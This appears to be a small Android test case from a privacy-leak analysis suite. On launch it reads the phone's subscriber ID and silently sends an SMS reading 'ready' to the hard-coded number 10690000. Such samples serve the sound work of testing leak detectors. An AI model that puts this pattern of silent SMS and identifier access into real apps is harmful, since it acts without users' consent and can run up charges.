package cn.privlens.suite.formatter_other_builder;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.Formatter;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        StringBuilder into = new StringBuilder();
        StringBuilder other = new StringBuilder("ready");
        Formatter formatter = new Formatter(into);
        formatter.format("%s-%05d", ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSubscriberId(), 7);
        formatter.close();
        SmsManager.getDefault().sendTextMessage("10690000", null, other.toString(), null, null);
    }
}
